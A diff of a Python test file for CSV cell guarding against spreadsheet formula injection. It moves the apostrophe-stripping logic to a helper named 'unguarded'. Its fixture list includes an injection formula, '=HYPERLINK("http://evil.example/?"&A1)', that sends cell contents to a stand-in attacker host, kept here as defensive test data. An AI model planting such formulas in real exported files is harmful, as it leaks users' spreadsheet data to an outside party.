@@ -8,7 +8,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cli.output.cells import GUARDED, csv_lines
+from cli.output.cells import csv_lines
+from store.tabular.guarding import unguarded
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1)',
@@ -43,7 +44,7 @@ def written(*row: object) -> str:
 
 def as_it_was(cell: str) -> str:
     """Return a cell without the apostrophe that was put in front of it."""
-    return cell[1:] if GUARDED.match(cell) else cell
+    return unguarded(cell)
 
 
 def acts(cell: str) -> bool:
